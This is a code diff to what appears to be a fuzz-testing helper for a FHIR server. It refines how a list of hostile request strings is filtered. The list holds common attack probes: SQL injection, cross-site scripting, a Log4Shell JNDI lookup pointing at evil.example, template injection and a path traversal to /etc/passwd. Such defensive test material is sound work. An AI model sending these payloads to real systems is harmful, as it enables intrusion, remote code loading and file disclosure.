@@ -6,6 +6,7 @@
  */
 import { deflateSync, gzipSync } from 'node:zlib';
 import fc from 'fast-check';
+import { isFhirString } from '../../src/fhir/strings.js';
 
 /** One request as the suite sends it; `path` is relative to the server's origin. */
 export interface HostileRequest {
@@ -31,6 +32,7 @@ export const INJECTIONS = [
   "Robert'); DROP TABLE students;--",
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, sent literally.
   '${jndi:ldap://evil.example/a}',
   '{{7*7}}',
   '../../../../etc/passwd',
@@ -76,7 +78,7 @@ export const hostileString: fc.Arbitrary<string> = fc.oneof(
 /** A string that is valid FHIR but otherwise anything: for bodies that should reach domain code. */
 export const oddString: fc.Arbitrary<string> = fc.oneof(
   fc.string({ unit: 'grapheme', maxLength: 30 }),
-  fc.constantFrom(...INJECTIONS.filter((s) => !/[\u0000-\u001f]/.test(s))),
+  fc.constantFrom(...INJECTIONS.filter(isFhirString)),
 );
 
 /** Ids: non-integer, negative, huge, empty, encoded, plausible. */
